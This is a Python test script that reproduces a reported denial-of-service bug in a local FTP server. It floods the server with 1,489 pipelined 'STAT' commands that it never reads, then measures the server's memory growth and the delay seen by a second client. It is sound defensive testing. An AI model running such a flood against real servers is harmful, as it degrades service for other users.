"""Issue 14's attack 2 against a running server, by hand: one client sends 1,489
`STAT big` in one write and never reads its replies; prints the server's RSS growth and the
worst latency of a victim's LIST (curl) meanwhile.

usage: stat_flood.py PORT SERVER_PID   (the home of foo/bar holds big/ with 1,500 entries)

    mkdir -p /tmp/flood/big && (cd /tmp/flood/big && touch $(seq -f 'f%g' 1 1500))
    netreactor --no-echo --no-http --no-ws --no-telnet --ftp 127.0.0.1:2391 --root /tmp/flood &
    python3 tests/ftp/stat_flood.py 2391 $!
"""
import socket
import subprocess
import sys
import time

port, pid = int(sys.argv[1]), sys.argv[2]


def rss_kib():
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise RuntimeError("no VmRSS")


before = rss_kib()
s = socket.create_connection(("127.0.0.1", port))
s.recv(1000)
s.sendall(b"USER foo\r\nPASS bar\r\n")
time.sleep(0.3)
s.recv(1000)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.sendall(b"STAT big\r\n" * 1489)
time.sleep(2)
worst = 0.0
for _ in range(10):
    t = time.time()
    subprocess.run(["curl", "-sS", "-u", "foo:bar", f"ftp://127.0.0.1:{port}/"],
                   check=True, capture_output=True)
    worst = max(worst, time.time() - t)
print(f"RSS growth {(rss_kib() - before) / 1024:.1f} MiB, worst victim LIST {worst * 1000:.0f} ms")
